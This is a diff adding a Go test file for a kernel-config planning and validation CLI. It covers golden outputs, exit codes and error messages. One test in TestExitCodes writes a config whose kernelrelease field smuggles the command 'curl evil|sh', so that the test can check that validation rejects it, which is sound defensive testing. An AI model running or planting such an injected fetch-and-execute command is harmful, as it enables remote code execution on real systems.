@@ -1,0 +1,114 @@
+package main
+
+import (
+	"bytes"
+	"flag"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+var update = flag.Bool("update", false, "rewrite golden files")
+
+// dbg runs the CLI in-process and returns stdout, stderr and the exit code.
+func dbg(t *testing.T, args ...string) (string, string, int) {
+	t.Helper()
+	var stdout, stderr bytes.Buffer
+	code := execute(t.Context(), newRootCmd(), args, &stdout, &stderr)
+	return stdout.String(), stderr.String(), code
+}
+
+func golden(t *testing.T, name, got string) {
+	t.Helper()
+	path := filepath.Join("testdata", "golden", name)
+	if *update {
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("%v (run go test -update to create it)", err)
+	}
+	if got != string(want) {
+		t.Errorf("%s differs from golden file:\n got:\n%s\nwant:\n%s", name, got, want)
+	}
+}
+
+const testKernels = "testdata/kernels"
+
+func TestGoldenOutputs(t *testing.T) {
+	tests := []struct {
+		golden string
+		args   []string
+	}{
+		{"plan.txt", []string{"plan"}},
+		{"plan.json", []string{"plan", "-o", "json"}},
+		{"plan-filtered.json", []string{"plan", "-o", "json", "--arch", "x86_64", "--target", "ubuntu-*,debian", "--kernelrelease", "5.*,6.1.*"}},
+		{"plan-driver-version.json", []string{"plan", "-o", "json", "--driver-version", "9.*", "--target", "debian"}},
+		{"stats.txt", []string{"stats"}},
+		{"stats.json", []string{"stats", "-o", "json"}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.golden, func(t *testing.T) {
+			out, errOut, code := dbg(t, append([]string{"--config-dir", testKernels}, tc.args...)...)
+			if code != 0 {
+				t.Fatalf("exit %d: %s", code, errOut)
+			}
+			golden(t, tc.golden, out)
+		})
+	}
+}
+
+func TestExitCodes(t *testing.T) {
+	bad := t.TempDir()
+	if err := os.CopyFS(bad, os.DirFS(testKernels)); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(bad, "x86_64", "broken.yaml"), []byte("kernelrelease: 5.4.0;curl evil|sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name string
+		args []string
+		want int
+	}{
+		{"valid configs", []string{"--config-dir", testKernels, "validate"}, 0},
+		{"invalid config", []string{"--config-dir", bad, "validate"}, 1},
+		{"plan refuses invalid configs", []string{"--config-dir", bad, "plan"}, 1},
+		{"missing config dir", []string{"--config-dir", filepath.Join(bad, "nope"), "plan"}, 1},
+		{"unknown flag", []string{"plan", "--bogus"}, 2},
+		{"bad shard", []string{"--config-dir", testKernels, "plan", "--shard", "3/2"}, 2},
+		{"bad pattern", []string{"--config-dir", testKernels, "plan", "--target", "[a"}, 2},
+		{"no driver version matches", []string{"--config-dir", testKernels, "plan", "--driver-version", "1.*"}, 2},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			_, errOut, code := dbg(t, tc.args...)
+			if code != tc.want {
+				t.Errorf("exit %d, want %d; stderr: %s", code, tc.want, errOut)
+			}
+		})
+	}
+}
+
+func TestValidateNamesTheFile(t *testing.T) {
+	bad := t.TempDir()
+	if err := os.CopyFS(bad, os.DirFS(testKernels)); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(bad, "x86_64", "ubuntu-generic_5.15.0-91-generic_101.yaml")
+	data, _ := os.ReadFile(path)
+	if err := os.WriteFile(path, append(data, "driverversion: 9.1.0+driver\n"...), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	out, _, code := dbg(t, "--config-dir", bad, "validate")
+	want := path + ":8:1: driverversion: the driver version is not set per kernel: dbg crosses every kernel with the driver versions of driverversions.yaml; remove this key\n" +
+		"1 problem(s) in 1 file(s); 4 valid kernel config(s)\n"
+	if code != 1 || out != want {
+		t.Errorf("exit %d, output:\n%s\nwant:\n%s", code, out, want)
+	}
+}
